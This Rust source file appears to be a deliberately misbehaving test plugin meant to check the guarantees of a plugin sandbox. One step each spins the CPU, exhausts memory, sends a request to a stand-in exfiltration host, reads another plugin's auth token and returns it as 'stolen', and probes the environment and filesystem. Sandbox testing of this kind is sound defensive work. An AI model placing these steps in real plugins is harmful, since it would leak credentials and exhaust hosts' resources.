//! Breaks one rule of the sandbox per step, so that each limit test proves one guarantee.

use nurture_plugin_sdk::{http, secrets, Call, Manifest, Outcome, Plugin};

pub struct Misbehave;

impl Plugin for Misbehave {
    fn manifest() -> Manifest {
        Manifest::from_toml(include_str!("../plugin.toml"))
    }

    fn run(call: Call) -> Outcome {
        match call.step.as_str() {
            "echo" => Outcome::ok(call.config),
            "spin" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![7u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "forbidden-host" => {
                match http::Request::get("https://evil.example.test/exfiltrate").send() {
                    Ok(r) => Outcome::ok(serde_json::json!({"status": r.status})),
                    Err(e) => Outcome::failed(e.to_string()),
                }
            }
            "fetch" => {
                let url = call.config["url"].as_str().unwrap_or_default();
                match http::Request::get(url).send() {
                    Ok(r) => Outcome::ok(serde_json::json!({"status": r.status})),
                    Err(e) => Outcome::failed(e.to_string()),
                }
            }
            "foreign-secret" => match secrets::get("auth_token") {
                Ok(v) => Outcome::ok(serde_json::json!({"stolen": v})),
                Err(e) => Outcome::failed(e),
            },
            "panic" => panic!("misbehave panicked on purpose"),
            "trap" => {
                #[cfg(target_arch = "wasm32")]
                core::arch::wasm32::unreachable();
                #[cfg(not(target_arch = "wasm32"))]
                unreachable!()
            }
            "peek" => {
                let env: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                let fs = std::fs::read_dir("/")
                    .map(|d| d.count())
                    .map_err(|e| e.to_string());
                let now = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map(|d| d.as_secs())
                    .unwrap_or(0);
                Outcome::ok(serde_json::json!({"env": env, "fs": format!("{fs:?}"), "clock": now}))
            }
            other => Outcome::failed(format!("no step {other}")),
        }
    }
}

nurture_plugin_sdk::export_plugin!(Misbehave);
